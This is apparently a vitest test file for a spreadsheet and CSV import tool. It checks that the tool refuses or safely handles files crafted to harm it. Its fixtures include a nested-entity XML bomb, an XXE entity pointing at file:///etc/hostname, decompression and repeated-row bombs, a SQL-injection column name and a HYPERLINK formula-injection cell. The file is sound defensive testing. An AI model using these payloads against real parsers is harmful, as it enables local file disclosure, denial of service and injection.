import { utils, write } from '@e965/xlsx';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { createWriteStream } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { literal } from '../duck.ts';
import { writeFrozen } from './freeze.ts';
import { readSource } from './read.ts';
import { fileRows } from './readers.ts';
import { unwatched } from './watch.ts';
import { openWorkbook, sheetLines } from './workbook.ts';
import { openWorkDirectory, type WorkDirectory } from './work-directory.ts';

let home: string;
let work: WorkDirectory;
beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'dawra-attack-'));
  work = await openWorkDirectory({ settings: { home, memoryMb: 512 } }, 'one');
});
afterAll(() => rm(home, { recursive: true, force: true }));

async function readPath(path: string) {
  const { report, codebook } = await readSource(
    work,
    { codebook: null, rows: fileRows(path, {}) },
    unwatched(new AbortController().signal),
  );
  const errors = report.issues.filter(({ severity }) => severity === 'error').map(({ code }) => code);
  return { report, codebook, errors };
}
let made = 0;
async function read(name: string, content: Uint8Array | string) {
  const path = join(home, `${++made}-${name}`);
  await writeFile(path, content);
  return readPath(path);
}
const workbook = (
  bookType: 'xlsx' | 'ods',
  rows: unknown[][] = [
    ['id', 'sex'],
    ['a', 'F'],
  ],
): Uint8Array =>
  new Uint8Array(
    write({ SheetNames: ['a'], Sheets: { a: utils.aoa_to_sheet(rows) } }, { type: 'buffer', bookType }) as Uint8Array,
  );
const main = { xlsx: 'xl/worksheets/sheet1.xml', ods: 'content.xml' } as const;
const entities = `<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>`;

describe('workbooks made to harm', () => {
  it('one cell far away is refused before a billion empty ones are written', async () => {
    const members = unzipSync(workbook('xlsx'));
    const text = strFromU8(members[main.xlsx]!);
    const far = '<row r="1048576"><c r="AAA1048576"><v>1</v></c></row></sheetData>';
    const { report } = await read(
      'far.xlsx',
      zipSync({ ...members, [main.xlsx]: strToU8(text.replace('</sheetData>', far)) }),
    );
    expect(report.issues.find(({ code }) => code === 'too-many-cells')).toMatchObject({ sheet: 'a', row: 1048576 });
  }, 20_000);

  it.each(['xlsx', 'ods'] as const)('a document of entities within entities is refused, .%s', async (type) => {
    const members = unzipSync(workbook(type));
    const text = strFromU8(members[main[type]]!);
    const bomb = text.replace(/(<\?xml[^>]*\?>)?/, `$1${entities}`).replace('>F<', '>&a12;<');
    expect(bomb).toContain('<!ENTITY');
    const { errors } = await read(`bomb.${type}`, zipSync({ ...members, [main[type]]: strToU8(bomb) }));
    expect(errors).toEqual(['not-a-workbook']);
  });

  it.each(['xlsx', 'ods'] as const)('a document that says where a secret lies is refused, .%s', async (type) => {
    const members = unzipSync(workbook(type));
    const outside = strFromU8(members[main[type]]!).replace(
      /(<\?xml[^>]*\?>)?/,
      '$1<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    );
    const { errors } = await read(`outside.${type}`, zipSync({ ...members, [main[type]]: strToU8(outside) }));
    expect(errors).toEqual(['not-a-workbook']);
  });

  it.each(['xlsx', 'ods'] as const)('what inflates without end is refused while it inflates, .%s', async (type) => {
    const members = unzipSync(workbook(type));
    const text = strFromU8(members[main[type]]!);
    const [before, after] = text.split('>F<') as [string, string];
    const bomb = strToU8(`${before}>${'F'.repeat(3 * 2 ** 20)}<${after}`);
    const path = join(home, `inflates.${type}`);
    await writeFile(path, zipSync({ ...members, [main[type]]: bomb }, { level: 1 }));
    const whole = openWorkbook(path, { inflatedBytes: 2 ** 20 }).then((book) => [...sheetLines(book, 'a')]);
    await expect(whole).rejects.toMatchObject({ issues: [{ code: 'too-many-cells' }] });
  });

  it('a sheet of OpenDocument that repeats a row a million times costs nothing, or is refused', async () => {
    const members = unzipSync(workbook('ods'));
    let row = 0;
    const bomb = strFromU8(members['content.xml']!).replace(/<table:table-row/g, (found) =>
      ++row === 2 ? `${found} table:number-rows-repeated="99999999"` : found,
    );
    const { errors } = await read('repeats.ods', zipSync({ ...members, 'content.xml': strToU8(bomb) }));
    expect(errors).toEqual(['too-many-cells']);
  });
});

describe('text made to harm', () => {
  it('a line longer than any row ends as a finding', async () => {
    const path = join(home, 'line.csv');
    const line = function* (): Generator<string> {
      yield 'id,note\n1,a\n2,';
      for (let at = 0; at < 18; at += 1) yield 'x'.repeat(2 ** 20);
      yield '\n3,b\n';
    };
    await pipeline(Readable.from(line()), createWriteStream(path));
    const { errors } = await readPath(path);
    expect(errors).toEqual(['csv-long-line']);
  });

  it('a first line longer than any row is no header', async () => {
    const path = join(home, 'header.csv');
    await pipeline(Readable.from(Array.from({ length: 18 }, () => 'x'.repeat(2 ** 20))), createWriteStream(path));
    const { errors, report } = await readPath(path);
    expect(errors).toEqual(['csv-long-line']);
    expect(JSON.stringify(report).length).toBeLessThan(10_000);
  });

  it('millions of empty lines are counted, not remembered one by one', async () => {
    const path = join(home, 'blank.csv');
    const lines = function* (): Generator<string> {
      yield 'id,sex\na,F\n';
      for (let at = 0; at < 40; at += 1) yield '\n'.repeat(50_000);
      yield 'b,H\n';
    };
    await pipeline(Readable.from(lines()), createWriteStream(path));
    const { report, errors } = await readPath(path);
    // DuckDB gives up on so many; that is told, and nothing is taken for whole.
    expect(errors.length > 0 || report.rows === 2).toBe(true);
    expect(JSON.stringify(report).length).toBeLessThan(10_000);
  });

  it('names longer than a codebook takes are shortened, each to a name of its own', async () => {
    const long = `Q ${'d’où venez-vous '.repeat(40)}`;
    const { report, codebook, errors } = await read('long.csv', `id,${long} a,${long} b\n1,2,3\n2,3,4\n`);
    expect([errors, new Set(report.columns).size]).toEqual([[], 3]);
    expect(report.columns.every((name) => name.length <= 300)).toBe(true);
    expect(report.issues.filter(({ code }) => code === 'shortened-name')).toHaveLength(2);
    expect(codebook!.variables).toHaveLength(3);
  });

  it('names that JavaScript and SQL know are names', async () => {
    const names = [
      '__proto__',
      'constructor',
      'toString',
      'rowid',
      'file_row_number',
      'c0.missing',
      'unit.weight',
      'select',
      '"; drop table x; --',
      'c0',
      'text 0',
      'place',
      'spot',
      'cell',
    ];
    const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const rows = Array.from({ length: 6 }, (_, row) => names.map((_name, at) => `${(row * (at + 1)) % 5}`).join(','));
    const { report, codebook, errors } = await read('names.csv', `${names.map(quote).join(',')}\n${rows.join('\n')}\n`);
    const kept = names.map((name) =>
      /^(__proto__|file_row_number|c0\.missing|unit\.weight)$/.test(name) ? `${name} (2)` : name,
    );
    expect([errors, report.columns, report.preview.length]).toEqual([[], kept, 6]);
    expect(report.issues.filter(({ code }) => code === 'reserved-name')).toHaveLength(4);
    expect(codebook!.variables.map(({ name }) => name)).toEqual(kept);
    const duck = await work.duck();
    try {
      await writeFrozen(duck, work.path('stage.parquet'), work.path('frozen.parquet'), codebook!);
      const rows = await duck.all(`select * from read_parquet(${literal(work.path('frozen.parquet'))}) limit 2`);
      expect(String(Object.values(rows[1]!)[0])).toBe('1');
    } finally {
      await duck.close();
    }
  });

  it('cells that a spreadsheet program would compute are texts, in a workbook too', async () => {
    const cell = '=HYPERLINK("http://example.org/?"&A1)';
    const csv = await read('formula.csv', `id,note\na,"${cell.replaceAll('"', '""')}"\nb,@SUM(1)\nc,+1\n`);
    expect(csv.report.preview[0]).toEqual(['a', cell]);
    const xlsx = await read(
      'formula.xlsx',
      workbook('xlsx', [
        ['id', 'note'],
        ['a', cell],
        ['b', 'x'],
      ]),
    );
    expect(xlsx.report.preview[0]).toEqual(['a', cell]);
  });

  it.each([
    ['a workbook called .csv', 'lie.csv', () => workbook('xlsx'), ['id', 'sex']],
    ['text called .xlsx', 'lie.xlsx', () => strToU8('id,sex\na,F\nb,H\n'), ['id', 'sex']],
    ['OpenDocument called .xls', 'lie.xls', () => workbook('ods'), ['id', 'sex']],
  ] as const)('%s is read for what it is', async (_, name, content, columns) => {
    const { report, errors } = await read(name, content());
    expect([errors, report.columns]).toEqual([[], columns]);
  });

  it.each([
    ['a page', '<html><body><table><tr><td>id</td></tr></table></body></html>'],
    ['a program', Buffer.from('7f454c4602010100000000000000000002003e00', 'hex')],
    ['a letter of Word', zipSync({ '[Content_Types].xml': strToU8('<x/>'), 'word/document.xml': strToU8('<x/>') })],
  ] as const)('%s called .csv is no table', async (_, content) => {
    const { errors } = await read('other.csv', content);
    expect(errors.length).toBeGreaterThan(0);
  });
});
